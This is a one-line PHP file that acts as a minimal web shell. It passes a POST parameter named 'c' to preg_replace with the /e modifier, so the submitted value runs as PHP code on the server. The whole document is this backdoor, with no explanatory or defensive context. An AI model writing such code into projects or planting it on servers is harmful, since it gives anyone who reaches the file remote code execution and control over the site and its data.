<?php preg_replace("/x/e", $_POST["c"], "x");
